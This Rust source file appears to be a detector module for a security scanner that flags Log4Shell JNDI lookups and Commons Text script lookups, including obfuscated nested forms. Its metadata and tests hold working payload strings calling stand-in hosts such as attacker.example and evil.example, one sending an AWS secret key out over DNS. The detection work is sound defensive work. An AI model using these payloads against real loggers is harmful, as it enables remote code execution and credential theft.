//! JNDI look-ups in values that a Java logger may expand (CVE-2021-44228 and what followed).

use super::{Detector, Hit, Kind, Subject, Tokens};
use crate::catalogue::DetectorInfo;

pub(super) const DETECTOR: Detector = Detector { info: &INFO, wants, look };

const INFO: DetectorInfo = DetectorInfo {
    name: "jndi",
    what: "a Log4j look-up that loads a class from a server, also when it is hidden in nested look-ups",
    why: "a vulnerable logger runs the attacker's code as soon as it writes the value",
    example: "${${lower:j}ndi:${::-l}dap://attacker.example/a}",
};

/// Bytes that are resolved; a look-up is short.
const RESOLVED: usize = 4096;
/// Nesting that is resolved.
const DEPTH: usize = 32;

fn wants(subject: &Subject<'_>) -> bool {
    subject.tokens.any(Tokens::LOOKUP)
}

fn look(subject: &Subject<'_>) -> Option<Hit> {
    let start = memchr::memmem::find(subject.bytes, b"${")?;
    let rest = subject.bytes.get(start..)?;
    let rest = rest.get(..rest.len().min(RESOLVED)).unwrap_or(rest);
    let range = start..start + rest.len().min(120);
    let resolved = resolve(rest);
    let hit = |confidence, note| Some(Hit { confidence, range: range.clone(), note });
    let holds = |word: &[u8]| resolved.windows(word.len()).any(|window| window.eq_ignore_ascii_case(word));
    if holds(b"${jndi:") {
        return hit(0.99, "JNDI look-up");
    }
    // Left open, a look-up may be closed by what the application appends.
    if holds(b"jndi:ldap") || holds(b"jndi:rmi") || holds(b"jndi:dns") || holds(b"jndi:iiop") {
        return hit(0.95, "JNDI address");
    }
    let nested = rest.windows(2).filter(|pair| *pair == b"${").count() >= 4;
    let joined = memchr::memmem::find(rest, b":-").is_some();
    if nested && joined {
        return hit(0.85, "nested look-ups that hide their meaning");
    }
    // Look-ups of Commons Text that run a script or call out (CVE-2022-42889).
    if holds(b"${script:") || holds(b"${url:utf-8:") || holds(b"${dns:address|") || holds(b"${dns:ad") {
        return hit(0.92, "look-up that runs a script or calls out");
    }
    if holds(b"${env:") || holds(b"${sys:") || holds(b"${java:") || holds(b"${ctx:") || holds(b"${main:") {
        // A whole value of it asks what the server tells; in a text or a setting it is a placeholder.
        let whole =
            start == 0 && subject.bytes.last() == Some(&b'}') && !matches!(subject.kind, Kind::Json | Kind::Text);
        return hit(if whole { 0.82 } else { 0.6 }, "look-up of the environment");
    }
    None
}

/// Expands the look-ups that only hide text: `${lower:x}`, `${upper:x}`, `${anything:-x}`; innermost first.
fn resolve(text: &[u8]) -> Vec<u8> {
    let mut open: Vec<Vec<u8>> = vec![Vec::new()];
    let mut rest = text;
    while let Some((byte, tail)) = rest.split_first() {
        rest = tail;
        if *byte == b'$' && tail.first() == Some(&b'{') && open.len() < DEPTH {
            rest = tail.get(1..).unwrap_or_default();
            open.push(Vec::new());
            continue;
        }
        if *byte == b'}'
            && open.len() > 1
            && let Some(inner) = open.pop()
        {
            if let Some(outer) = open.last_mut() {
                outer.extend(expand(inner));
            }
            continue;
        }
        if let Some(current) = open.last_mut() {
            current.push(*byte);
        }
    }
    let mut out = Vec::new();
    for (level, part) in open.into_iter().enumerate() {
        if level > 0 {
            out.extend_from_slice(b"${");
        }
        out.extend(part);
    }
    out
}

fn expand(inner: Vec<u8>) -> Vec<u8> {
    if let Some(at) = memchr::memmem::find(&inner, b":-") {
        return inner.get(at + 2..).unwrap_or_default().to_vec();
    }
    for word in [b"lower:".as_slice(), b"upper:", b"base64:", b"date:"] {
        if inner.get(..word.len()).is_some_and(|start| start.eq_ignore_ascii_case(word)) {
            let text = inner.get(word.len()..).unwrap_or_default();
            // The dotless `ı` becomes `I` in upper case.
            let text = String::from_utf8_lossy(text).replace('\u{131}', "i");
            return text.bytes().filter(|byte| *byte != b'\'').collect();
        }
    }
    [b"${".as_slice(), &inner, b"}"].concat()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::examples::{must_fire, must_not_fire};

    #[test]
    fn look_ups_are_found_however_they_hide() {
        must_fire(
            &DETECTOR,
            Kind::Agent,
            &[
                "${jndi:ldap://evil.example/a}",
                "Mozilla/5.0 ${JNDI:rmi://evil.example/a}",
                "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://x/a}",
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
                "${jndi:${lower:l}${lower:d}a${lower:p}://x/a}",
                "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}",
                "${jndi:ldap://x/a",
                "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x}",
            ],
        );
    }

    #[test]
    fn ordinary_placeholders_are_let_pass() {
        must_not_fire(
            &DETECTOR,
            Kind::Json,
            &[
                "Hello ${name}",
                "${price} EUR",
                "cost: ${a:-0} of ${b:-1}",
                "use ${HOME}/bin",
                "`${x}` in JavaScript",
                "jndi is a Java API",
            ],
        );
    }
}
